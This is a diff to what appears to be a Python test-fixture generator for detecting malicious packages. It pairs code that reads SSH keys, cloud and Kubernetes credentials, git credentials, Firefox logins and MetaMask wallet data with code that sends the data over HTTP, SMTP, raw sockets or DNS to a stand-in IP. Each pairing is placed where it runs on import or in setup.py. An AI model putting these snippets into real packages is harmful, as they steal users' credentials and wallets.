@@ -15,6 +15,15 @@ READS = {
                        "data = ''.join(open(os.path.join(p, f), errors='ignore').read() for f in os.listdir(p))\n"),
     "exodus_wallet": "data = open(os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet', 'seed.seco'), 'rb').read()\n",
     "npmrc": "data = open(os.path.expanduser('~/.npmrc')).read()\n",
+    "pathlib_ssh": "from pathlib import Path\ndata = (Path.home() / '.ssh' / 'id_rsa').read_text()\n",
+    "glob_ssh": "import glob\ndata = [open(f).read() for f in glob.glob(os.path.expanduser('~/.ssh/*'))]\n",
+    "gcloud": "data = open(os.path.expanduser('~/.config/gcloud/application_default_credentials.json')).read()\n",
+    "kube": "data = open(os.path.join(os.path.expanduser('~'), '.kube', 'config')).read()\n",
+    "git_creds": "data = open(os.path.expanduser('~/.git-credentials')).read()\n",
+    "firefox": ("import glob\ndata = [open(p, 'rb').read() for p in"
+                " glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json'))]\n"),
+    "metamask": ("data = os.listdir(os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default',"
+                 " 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn'))\n"),
 }
 
 _B64_HOOK = "aHR0cDovLzIwMy4wLjExMy43L2M="  # base64 of http://203.0.113.7/c
@@ -38,6 +47,12 @@ SENDS = {
                "s.sendall(str(data).encode())\n"),
     "dns": ("import socket, binascii\nfor i in range(0, 60, 30):\n"
             "    socket.gethostbyname(binascii.hexlify(str(data)[i:i+30].encode()).decode() + '.' + URL.split('/')[2])\n"),
+    "httpclient": ("import http.client\nc = http.client.HTTPSConnection(URL.split('/')[2])\n"
+                   "c.request('POST', '/c', body=str(data))\n"),
+    "smtp": "import smtplib\ns = smtplib.SMTP(URL.split('/')[2], 587)\ns.sendmail('a@x', 'b@x', str(data))\n",
+    "fstring": "import requests\nrequests.post(f'{URL}/up', json={'d': str(data)})\n",
+    "urllib_request": ("import urllib.request\nreq = urllib.request.Request(URL, data=str(data).encode(), method='POST')\n"
+                       "urllib.request.urlopen(req)\n"),
 }
 
 
@@ -46,24 +61,32 @@ def _body(read: str, dest: str, send: str) -> tuple[str, dict]:
     return "import os\n" + prelude + READS[read] + SENDS[send], extra
 
 
-def variants() -> dict[str, dict[str, str]]:
-    """case id -> files, for every read x destination x send: in a top-level __init__, in a module it
-    imports, and in setup.py."""
+def _combinations(full: bool):
+    if full:
+        yield from ((r, d, s) for r in READS for d in DESTS for s in SENDS)
+        return
+    # Every pair of dimensions at least once (the full product is `variants(full=True)`).
+    yield from ((r, d, "requests") for r in READS for d in DESTS)
+    yield from (("ssh_key", d, s) for d in DESTS for s in SENDS)
+    yield from ((r, "constant_domain", s) for r in READS for s in SENDS)
+
+
+def variants(full: bool = False) -> dict[str, dict[str, str]]:
+    """case id -> files, for read x destination x send combinations: in a top-level __init__, in a
+    module it imports (as module statements, or in a function the module calls), and in setup.py."""
     out = {}
-    for read in READS:
-        for dest in DESTS:
-            for send in SENDS:
-                body, extra = _body(read, dest, send)
-                out[f"init-{read}-{dest}-{send}"] = {"pkg/__init__.py": body, **extra}
-                setup_body = body.replace("from pkg.config import URL", "from config import URL")
-                setup_extra = {k.replace("pkg/", ""): v for k, v in extra.items()}
-                out[f"module-{read}-{dest}-{send}"] = {"pkg/__init__.py": "from . import _sync\n",
-                                                       "pkg/_sync.py": body, **extra}
-                called = "def _sync():\n" + "".join("    " + ln + "\n" for ln in body.splitlines()) + "\n_sync()\n"
-                out[f"modfunc-{read}-{dest}-{send}"] = {"pkg/__init__.py": "from . import _sync\n",
-                                                        "pkg/_sync.py": called, **extra}
-                out[f"setup-{read}-{dest}-{send}"] = {"setup.py": setup_py(setup_body), "pkg/__init__.py": "",
-                                                      **setup_extra}
+    for read, dest, send in _combinations(full):
+        body, extra = _body(read, dest, send)
+        out[f"init-{read}-{dest}-{send}"] = {"pkg/__init__.py": body, **extra}
+        setup_body = body.replace("from pkg.config import URL", "from config import URL")
+        setup_extra = {k.replace("pkg/", ""): v for k, v in extra.items()}
+        out[f"module-{read}-{dest}-{send}"] = {"pkg/__init__.py": "from . import _sync\n",
+                                               "pkg/_sync.py": body, **extra}
+        called = "def _sync():\n" + "".join("    " + ln + "\n" for ln in body.splitlines()) + "\n_sync()\n"
+        out[f"modfunc-{read}-{dest}-{send}"] = {"pkg/__init__.py": "from . import _sync\n",
+                                                "pkg/_sync.py": called, **extra}
+        out[f"setup-{read}-{dest}-{send}"] = {"setup.py": setup_py(setup_body), "pkg/__init__.py": "",
+                                              **setup_extra}
     return out
 
 
